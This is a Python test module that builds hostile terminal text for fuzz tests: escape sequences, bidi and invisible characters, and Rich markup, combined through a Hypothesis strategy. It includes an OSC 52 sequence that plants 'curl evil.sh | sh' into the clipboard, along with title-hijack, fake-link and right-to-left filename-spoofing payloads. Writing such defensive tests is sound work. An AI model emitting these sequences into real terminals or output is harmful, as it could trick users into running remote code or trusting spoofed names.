"""Hostile text for the tests: terminal control sequences, bidi and invisible characters, Rich markup.

``HOSTILE`` is the fixed set (what the committed recording tests/data/hostile.jsonl holds);
``hostile_text()`` is a Hypothesis strategy mixing them with C0/C1 controls and plain text.
"""

from __future__ import annotations

import unicodedata

from hypothesis import strategies as st

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
CLEAR = f"{ESC}[2J"
RED = f"{ESC}[31m"
TITLE = f"{ESC}]0;TITLE-OWNED{BEL}"
CLIPBOARD = f"{ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g={BEL}"  # "curl evil.sh | sh" into the clipboard
MARKUP = "[blink]markup[/blink]"

HOSTILE = [
    f"{CLEAR}{RED}{TITLE}{CLIPBOARD}{MARKUP}",
    f"{MARKUP}{ESC}]0;GGUF-TITLE{BEL}",
    f"name{ESC}P1$r0m{ST}dcs",
    f"\x9b2J\x9d0;c1-title\x9c",  # the 8-bit C1 forms of CSI, OSC and ST
    "abc\u202eevil.exe\u202c",
    "\u2066rtl\u2069\u200bzero\u200dwidth\ufeff",
    "[bold red]x[/] [link=https://evil]click[/link] \\[escaped] [/]",
    "line1\nline2\rover\x08\x08back\x00nul\x7f",
]

_SEQUENCES = [CLEAR, RED, TITLE, CLIPBOARD, MARKUP, f"{ESC}]8;;https://evil{ST}link{ESC}]8;;{ST}",
              f"{ESC}P+q544e{ST}", f"{ESC}_apc{ST}", f"{ESC}^pm{ST}", f"{ESC}X sos{ST}", "[/]", "[@click=quit]q[/]"]
_CONTROLS = [chr(c) for c in range(0x20)] + ["\x7f"] + [chr(c) for c in range(0x80, 0xA0)]
_FORMAT = [ch for ch in map(chr, range(0x2000, 0x2070)) if unicodedata.category(ch) in ("Cf", "Zl", "Zp")] + [
    "\u00ad", "\u061c", "\ufeff", "\ufff9", "\U000e0001", "\ud800"]


def hostile_text(max_size: int = 24) -> st.SearchStrategy[str]:
    piece = st.one_of(st.sampled_from(_SEQUENCES), st.sampled_from(_CONTROLS), st.sampled_from(_FORMAT),
                      st.text(max_size=6), st.sampled_from(HOSTILE))
    return st.lists(piece, max_size=max_size).map("".join)
